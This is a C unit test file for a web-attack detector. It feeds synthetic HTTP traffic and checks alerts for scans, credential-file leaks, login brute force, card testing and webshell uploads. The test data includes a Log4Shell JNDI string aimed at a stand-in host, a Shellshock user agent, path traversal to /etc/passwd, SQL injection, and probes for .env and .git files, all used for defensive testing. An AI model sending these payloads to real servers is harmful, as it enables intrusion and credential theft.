/* test-det-web.c - the web.attack detector fed hand-made "http" events
 * through a real detection stage, alerts captured at its callback: each
 * variant, the guards that keep ordinary sites quiet, per-day aggregation,
 * and that every text placeholder a variant uses is a fact it sets. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "decode/decode.h"
#include "det-test-util.h"
#include "detect/detect.h"
#include "detect/explain.h"
#include "util/netaddr.h"
#include "util/util.h"

#define S (1000000ull)
#define DAY (86400ull * S)
/* 2026-11-26 09:15:00 UTC */
#define T0 (1795684500ull * S)

/* web.attack only, one record per key: the first raise, then the counts of
 * its updates added up. */
static void on_web_alert(void *arg, const struct alert *a)
{
    struct cap *c = arg;
    if (strcmp(a->category, "web.attack") != 0)
        return;
    for (unsigned i = 0; i < c->n; i++) {
        if (strcmp(c->a[i].key, a->key) == 0) {
            assert_true(a->update);
            c->a[i].count += a->count;
            return;
        }
    }
    assert_false(a->update);
    assert_true(c->n < CAP_MAX);
    alert_copy(&c->a[c->n++], a);
}

/* The flow id handed out last. */
static uint64_t flow_id;

/* The whole stage from f->cfg, alerts to on_web_alert. */
static void web_start(struct fx *f)
{
    fx_open_cb(f, NULL, NULL, on_web_alert);
    flow_id = 0;
}

/* A fresh fixture, the default configuration. */
static void fx_begin(struct fx *f)
{
    fx_init(f);
    web_start(f);
}

/* One transaction client -> server as proto-http.c reports it. */
static void fx_http(struct fx *f, uint64_t ts, const char *client, const char *server,
                    const char *method, const char *url, int status, long long length,
                    const char *ua, const char *redirect)
{
    struct flow fl;
    memset(&fl, 0, sizeof(fl));
    fl.id = ++flow_id;
    fl.proto = 6;
    assert_int_equal(ip_addr_parse(client, &fl.src), 0);
    assert_int_equal(ip_addr_parse(server, &fl.dst), 0);
    fl.sport = 50000;
    fl.dport = 80;
    fl.first_ts_us = fl.last_ts_us = ts;
    json_t *b = json_object();
    json_object_set_new(b, "hostname", json_string("shop.example.jp"));
    json_object_set_new(b, "url", json_string(url));
    json_object_set_new(b, "http_method", json_string(method));
    if (ua)
        json_object_set_new(b, "http_user_agent", json_string(ua));
    if (status)
        json_object_set_new(b, "status", json_integer(status));
    if (redirect)
        json_object_set_new(b, "redirect", json_string(redirect));
    json_object_set_new(b, "length", json_integer(length));
    struct app_event ev = {.type = "http", .f = &fl, .ts_us = ts, .app_proto = "http", .body = b};
    detect_app_event(f->d, &ev);
    json_decref(b);
}

#define SRV "192.168.60.10"

/* Updates reach the callback at the stage's flush (the pipeline's commit). */
static const struct alert *find(struct fx *f, const char *variant)
{
    detect_flush(f->d);
    for (unsigned i = 0; i < f->cap.n; i++) {
        json_t *v = json_object_get(f->cap.a[i].facts, "variant");
        if (json_is_string(v) && strcmp(json_string_value(v), variant) == 0)
            return &f->cap.a[i];
    }
    return NULL;
}

/* Every placeholder outside an optional group of the alert's texts is a
 * built-in or a fact the alert has. */
static void check_facts_cover_texts(const struct alert *a)
{
    static const char *const builtins[] = {"src", "dst", "device", "mac", "count", "first",
                                           "last"};
    json_t *v = json_object_get(a->facts, "variant");
    const struct alert_text *t =
        explain_find(a->category, json_is_string(v) ? json_string_value(v) : NULL);
    assert_non_null(t);
    const char *parts[6] = {t->title[0], t->title[1],  t->explain[0],
                            t->explain[1], t->action[0], t->action[1]};
    for (int k = 0; k < 6; k++) {
        bool group = false;
        for (const char *p = parts[k]; *p; p++) {
            if (p[0] == '[' && p[1] == '[') {
                group = true;
                p++;
                continue;
            }
            if (p[0] == ']' && p[1] == ']') {
                group = false;
                p++;
                continue;
            }
            if (*p != '{' || group)
                continue;
            const char *end = strchr(p, '}');
            assert_non_null(end);
            char name[32];
            size_t n = (size_t)(end - p - 1);
            assert_true(n < sizeof(name));
            memcpy(name, p + 1, n);
            name[n] = '\0';
            bool ok = json_object_get(a->facts, name) != NULL;
            for (size_t i = 0; i < ARRAY_SIZE(builtins); i++)
                ok |= strcmp(builtins[i], name) == 0;
            if (!ok) {
                print_error("%s: {%s} not set\n", t->id, name);
                fail();
            }
            p = end;
        }
    }
}

static void check_all(const struct fx *f)
{
    for (unsigned i = 0; i < f->cap.n; i++)
        check_facts_cover_texts(&f->cap.a[i]);
}

/* ------------------------------------------------------------------ tests */

static void test_scan_low_and_leak(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    static const char *const probes[] = {"/.git/config", "/phpmyadmin/", "/cgi-bin/x.cgi",
                                         "/wp-config.php.bak", "/server-status"};
    uint64_t t = T0;
    for (size_t i = 0; i < ARRAY_SIZE(probes); i++)
        fx_http(&f, t += S, "203.0.113.9", SRV, "GET", probes[i], 404, 150, "curl/8", NULL);
    const struct alert *a = find(&f, "scan");
    assert_non_null(a);
    assert_int_equal(a->severity, SEV_LOW);
    assert_int_equal(a->count, 5);
    assert_string_equal(fact_str(a, "site"), "shop.example.jp");
    assert_non_null(strstr(fact_str(a, "paths"), "/.git/config"));
    assert_string_equal(fact_str(a, "statuses"), "404 x3");
    assert_null(find(&f, "leak"));
    /* The .env is there: a leak (high), once. */
    fx_http(&f, t += S, "203.0.113.9", SRV, "GET", "/%2Eenv", 200, 380, "curl/8", NULL);
    fx_http(&f, t += S, "203.0.113.9", SRV, "GET", "/.env", 200, 380, "curl/8", NULL);
    a = find(&f, "leak");
    assert_non_null(a);
    assert_int_equal(a->severity, SEV_HIGH);
    assert_string_equal(fact_str(a, "path"), "/%2Eenv");
    assert_int_equal(find(&f, "scan")->count, 7);
    check_all(&f);
    fx_close(&f);
}

static void test_strong_single(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    fx_http(&f, T0, "198.51.100.3", SRV, "GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D",
            200, 900, "Mozilla/5.0", NULL);
    assert_non_null(find(&f, "scan"));
    fx_close(&f);
    /* Shellshock in the user agent. */
    fx_begin(&f);
    fx_http(&f, T0, "198.51.100.3", SRV, "GET", "/cgi-bin/status", 404, 0,
            "() { :; }; /bin/bash -c 'id'", NULL);
    assert_non_null(find(&f, "scan"));
    fx_close(&f);
    /* Double-encoded traversal to /etc/passwd. */
    fx_begin(&f);
    fx_http(&f, T0, "198.51.100.3", SRV, "GET", "/img/%252e%252e/%252e%252e/etc/passwd", 400, 0,
            NULL, NULL);
    assert_non_null(find(&f, "scan"));
    fx_close(&f);
}

/* A site answering 200 to every path (single-page app): no leak. */
static void test_catchall_site(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    static const char *const probes[] = {"/.env", "/.git/config", "/phpmyadmin/", "/backup.sql"};
    uint64_t t = T0;
    for (size_t i = 0; i < ARRAY_SIZE(probes); i++)
        fx_http(&f, t += S, "203.0.113.9", SRV, "GET", probes[i], 200, 1834, NULL, NULL);
    assert_non_null(find(&f, "scan"));
    assert_null(find(&f, "leak"));
    assert_null(find(&f, "exposed"));
    fx_close(&f);
}

/* Staff using phpMyAdmin on the LAN server: nothing. A scanner finding it:
 * exposed (medium). */
static void test_exposed_needs_scan(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    uint64_t t = T0;
    for (int i = 0; i < 30; i++)
        fx_http(&f, t += S, "192.168.60.21", SRV, "GET", i % 2 ? "/phpmyadmin/index.php"
                                                               : "/phpmyadmin/sql.php",
                200, 5000 + i, "Mozilla/5.0", NULL);
    fx_http(&f, t += S, "192.168.60.21", SRV, "GET", "/favicon.ico", 404, 100, NULL, NULL);
    assert_int_equal(f.cap.n, 0);
    fx_http(&f, t += S, "203.0.113.9", SRV, "GET", "/.git/HEAD", 404, 100, "x", NULL);
    fx_http(&f, t += S, "203.0.113.9", SRV, "GET", "/phpmyadmin/", 200, 5000, "x", NULL);
    fx_http(&f, t += S, "203.0.113.9", SRV, "GET", "/cgi-bin/a", 404, 100, "x", NULL);
    const struct alert *a = find(&f, "exposed");
    assert_non_null(a);
    assert_int_equal(a->severity, SEV_MEDIUM);
    assert_string_equal(fact_str(a, "path"), "/phpmyadmin/");
    check_all(&f);
    fx_close(&f);
}

static void test_many_404(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    char path[64];
    uint64_t t = T0;
    /* A crawler: 300 pages, 15 stale links. */
    for (int i = 0; i < 300; i++) {
        snprintf(path, sizeof(path), "/p/%d", i);
        fx_http(&f, t += S, "192.0.2.66", SRV, "GET", path, i % 20 == 3 ? 404 : 200, 900,
                "Googlebot/2.1", NULL);
    }
    assert_int_equal(f.cap.n, 0);
    /* Directory guessing: 25 random names, all 404. */
    for (int i = 0; i < 25; i++) {
        snprintf(path, sizeof(path), "/dir%d/", i);
        fx_http(&f, t += S, "192.0.2.99", SRV, "GET", path, 404, 150, "x", NULL);
    }
    const struct alert *a = find(&f, "scan");
    assert_non_null(a);
    assert_int_equal(fact_int(a, "failures"), 20);
    fx_close(&f);
}

static void test_login(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    uint64_t t = T0;
    for (int i = 0; i < 19; i++)
        fx_http(&f, t += S, "198.51.100.99", SRV, "POST", "/wp-login.php", 200, 4000, "x", NULL);
    assert_int_equal(f.cap.n, 0);
    fx_http(&f, t += S, "198.51.100.99", SRV, "POST", "/wp-login.php", 200, 4000, "x", NULL);
    const struct alert *a = find(&f, "login");
    assert_non_null(a);
    assert_int_equal(a->severity, SEV_MEDIUM);
    assert_int_equal(a->count, 20);
    assert_int_equal(fact_int(a, "failures"), 20);
    /* A 302 back to the form is another failure, one to /wp-admin/ a login. */
    fx_http(&f, t += S, "198.51.100.99", SRV, "POST", "/wp-login.php", 302, 0, "x",
            "/wp-login.php?reauth=1");
    assert_null(find(&f, "login_success"));
    fx_http(&f, t += S, "198.51.100.99", SRV, "POST", "/wp-login.php", 302, 0, "x",
            "https://shop.example.jp/wp-admin/");
    a = find(&f, "login_success");
    assert_non_null(a);
    assert_int_equal(a->severity, SEV_HIGH);
    assert_int_equal(fact_int(a, "failures"), 21);
    assert_int_equal(find(&f, "login")->count, 22);
    check_all(&f);
    fx_close(&f);
}

/* EC-CUBE redirects every login POST; in a log (no Location) a redirect
 * is a success only where the failures were not redirects. */
static void test_login_redirects(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    uint64_t t = T0;
    for (int i = 0; i < 25; i++)
        fx_http(&f, t += S, "198.51.100.5", SRV, "POST", "/admin/login_check", 302, 0, "x", NULL);
    assert_non_null(find(&f, "login"));
    assert_null(find(&f, "login_success"));
    /* Generic form: 401s then a redirect. */
    for (int i = 0; i < 12; i++)
        fx_http(&f, t += S, "198.51.100.6", SRV, "POST", "/api/login", 401, 40, "x", NULL);
    fx_http(&f, t += S, "198.51.100.6", SRV, "POST", "/api/login", 303, 0, "x", NULL);
    assert_non_null(find(&f, "login_success"));
    fx_close(&f);
}

static void test_xmlrpc_and_staff(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    uint64_t t = T0;
    /* Jetpack-like: 30 xmlrpc posts a day, under the xmlrpc bar. */
    for (int i = 0; i < 30; i++)
        fx_http(&f, t += 60 * S, "192.0.2.10", SRV, "POST", "/xmlrpc.php", 200, 300, "Jetpack",
                NULL);
    /* Joomla admin at work: posts with ?option=... are not logins. */
    for (int i = 0; i < 40; i++)
        fx_http(&f, t += S, "192.168.60.21", SRV, "POST",
                "/administrator/index.php?option=com_content&task=article.apply", 303, 0, "x",
                NULL);
    assert_int_equal(f.cap.n, 0);
    for (int i = 0; i < 30; i++)
        fx_http(&f, t += S, "203.0.113.7", SRV, "POST", "/xmlrpc.php", 200, 300, "x", NULL);
    assert_int_equal(f.cap.n, 0);
    for (int i = 0; i < 20; i++)
        fx_http(&f, t += S, "203.0.113.7", SRV, "POST", "/xmlrpc.php", 200, 300, "x", NULL);
    assert_non_null(find(&f, "login"));
    fx_close(&f);
}

static void test_card(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    uint64_t t = T0;
    /* A customer who browses and retries a declined card three times. */
    for (int i = 0; i < 20; i++)
        fx_http(&f, t += S, "198.51.100.40", SRV, "GET", "/products/1", 200, 900, "x", NULL);
    for (int i = 0; i < 4; i++)
        fx_http(&f, t += S, "198.51.100.40", SRV, "POST", "/?wc-ajax=checkout", i < 3 ? 402 : 200,
                90, "x", NULL);
    /* Adding many items to the cart is shopping. */
    for (int i = 0; i < 15; i++)
        fx_http(&f, t += S, "198.51.100.40", SRV, "POST", "/cart/add", 302, 0, "x", NULL);
    assert_int_equal(f.cap.n, 0);
    /* A bot posting payments that all answer 200 (declines inside): it does
     * nothing else. */
    for (int i = 0; i < 10; i++)
        fx_http(&f, t += S, "203.0.113.66", SRV, "POST", "/api/payments", 200, 60, "bot", NULL);
    const struct alert *a = find(&f, "card");
    assert_non_null(a);
    assert_int_equal(a->severity, SEV_HIGH);
    assert_int_equal(a->count, 10);
    assert_string_equal(fact_str(a, "paths"), "/api/payments");
    check_all(&f);
    fx_close(&f);
}

static void test_card_slow(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    uint64_t t = T0;
    char ip[32];
    /* 40 addresses, one or two direct payment posts each, over 10 hours. */
    for (int i = 0; i < 40; i++) {
        snprintf(ip, sizeof(ip), "198.18.%d.%d", i / 200, i % 200 + 1);
        fx_http(&f, t += 15 * 60 * S, ip, SRV, "POST", "/shopping/confirm", 200, 300, "x", NULL);
        if (i % 3 == 0)
            fx_http(&f, t += S, ip, SRV, "POST", "/shopping/confirm", 402, 300, "x", NULL);
    }
    const struct alert *a = find(&f, "card_slow");
    assert_non_null(a);
    assert_false(a->has_src);
    assert_int_equal(a->severity, SEV_HIGH);
    assert_true(fact_int(a, "sources") >= 5);
    assert_null(find(&f, "card"));
    check_all(&f);
    fx_close(&f);
}

static void test_webshell(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    uint64_t t = T0;
    fx_http(&f, t += S, "203.0.113.8", SRV, "POST", "/wp-content/uploads/2026/11/x.php", 200, 40,
            "x", NULL);
    const struct alert *a = find(&f, "webshell");
    assert_non_null(a);
    assert_int_equal(a->severity, SEV_HIGH);
    check_all(&f);
    fx_close(&f);
    /* PUT of a script accepted. */
    fx_begin(&f);
    fx_http(&f, t, "203.0.113.8", SRV, "PUT", "/up.jsp", 201, 0, "x", NULL);
    assert_non_null(find(&f, "webshell"));
    fx_close(&f);
    /* Pictures in the upload folder, a script that is not there: quiet. */
    fx_begin(&f);
    fx_http(&f, t, "198.51.100.2", SRV, "GET", "/wp-content/uploads/2026/11/a.jpg", 200, 40000,
            "x", NULL);
    fx_http(&f, t, "198.51.100.2", SRV, "POST", "/uploads/x.php", 404, 100, "x", NULL);
    assert_null(find(&f, "webshell"));
    fx_close(&f);
}

/* Outbound browsing is not ours; days aggregate apart. */
static void test_scope_and_days(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    for (int i = 0; i < 5; i++)
        fx_http(&f, T0 + (uint64_t)i * S, "192.168.60.21", "93.184.215.14", "GET",
                "/?q=union select", 200, 100, "x", NULL);
    assert_int_equal(f.cap.n, 0);
    fx_http(&f, T0, "203.0.113.9", SRV, "GET", "/?q=1 union select 2", 200, 100, "x", NULL);
    fx_http(&f, T0 + S, "203.0.113.9", SRV, "GET", "/?q=1 union select 2", 200, 100, "x", NULL);
    fx_http(&f, T0 + DAY, "203.0.113.9", SRV, "GET", "/?q=1 union select 2", 200, 100, "x", NULL);
    detect_flush(f.d);
    assert_int_equal(f.cap.n, 2);
    assert_int_equal(f.cap.a[0].count, 2);
    assert_non_null(strstr(f.cap.a[0].key, "2026-11-26"));
    assert_non_null(strstr(f.cap.a[1].key, "2026-11-27"));
    /* The log reader's unspecified server is "this site". */
    fx_http(&f, T0, "203.0.113.10", "0.0.0.0", "GET", "/etc/passwd", 404, 100, "x", NULL);
    assert_int_equal(f.cap.n, 3);
    assert_false(f.cap.a[2].has_dst);
    fx_close(&f);
}

/* Tunables come from the config. */
static void test_params(void **state)
{
    (void)state;
    struct fx f;
    char err[128];
    fx_init(&f);
    assert_int_equal(detect_config_set_param(&f.cfg, "web.login_min_attempts", "3", err,
                                             sizeof(err)),
                     0);
    assert_int_equal(detect_config_set_param(&f.cfg, "web.login_min_attempts", "0", err,
                                             sizeof(err)),
                     -1);
    web_start(&f);
    for (int i = 0; i < 3; i++)
        fx_http(&f, T0 + (uint64_t)i * S, "198.51.100.99", SRV, "POST", "/user/login", 200, 10,
                "x", NULL);
    assert_non_null(find(&f, "login"));
    fx_close(&f);
}

/* Junk in every field: no crash, nothing raised for what is not an attack. */
static void test_junk(void **state)
{
    (void)state;
    struct fx f;
    fx_begin(&f);
    char big[3000];
    memset(big, '%', sizeof(big) - 1);
    big[sizeof(big) - 1] = '\0';
    fx_http(&f, T0, "203.0.113.1", SRV, "GET", big, 400, -5, big, big);
    fx_http(&f, T0, "203.0.113.1", SRV, "", "%", 99999, 0, "", "");
    fx_http(&f, T0, "203.0.113.1", SRV, "POST", "%zz%2", 0, 0, NULL, NULL);
    assert_int_equal(f.cap.n, 0);
    fx_close(&f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_scan_low_and_leak),
        cmocka_unit_test(test_strong_single),
        cmocka_unit_test(test_catchall_site),
        cmocka_unit_test(test_exposed_needs_scan),
        cmocka_unit_test(test_many_404),
        cmocka_unit_test(test_login),
        cmocka_unit_test(test_login_redirects),
        cmocka_unit_test(test_xmlrpc_and_staff),
        cmocka_unit_test(test_card),
        cmocka_unit_test(test_card_slow),
        cmocka_unit_test(test_webshell),
        cmocka_unit_test(test_scope_and_days),
        cmocka_unit_test(test_params),
        cmocka_unit_test(test_junk),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
